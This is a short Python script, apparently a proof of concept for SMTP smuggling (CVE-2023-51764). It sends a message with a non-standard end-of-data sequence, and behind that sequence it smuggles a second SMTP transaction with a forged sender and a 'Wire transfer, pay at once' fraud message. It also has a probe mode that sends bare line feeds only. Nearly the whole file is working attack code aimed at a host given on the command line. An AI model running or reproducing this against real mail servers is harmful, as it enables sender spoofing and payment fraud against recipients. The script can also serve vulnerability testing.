"""Sends a message whose text holds another end of message than CRLF . CRLF, and
behind it the commands of a second one (CVE-2023-51764). Arguments: host, port,
sender of the second message, or none for a text with bare line feeds only."""

import smtplib
import sys

host, port, forged = sys.argv[1:]
text = b"Subject: Newsletter\r\n\r\nNothing new"
if forged == "none":
    text = text.replace(b"\r\n", b"\n") + b" this week.\nSee you.\r\n.\r\n"
else:
    text += (
        b".\n.\n"
        + f"MAIL FROM:<{forged}>\r\nRCPT TO:<bob@shop.example>\r\nDATA\r\n".encode()
        + f"From: {forged}\r\nSubject: Wire transfer\r\n\r\nPay at once.\r\n.\r\n".encode()
    )
with smtplib.SMTP(host, int(port), local_hostname="pc7.example") as smtp:
    smtp.ehlo()
    smtp.mail("news@bank.example")
    smtp.rcpt("bob@shop.example")
    smtp.docmd("DATA")
    smtp.send(text)
    print(smtp.getreply())
    if forged != "none":
        smtp.sock.settimeout(2)
        try:
            for _ in range(4):
                print(smtp.getreply())
        except (OSError, smtplib.SMTPServerDisconnected) as error:
            print(error)
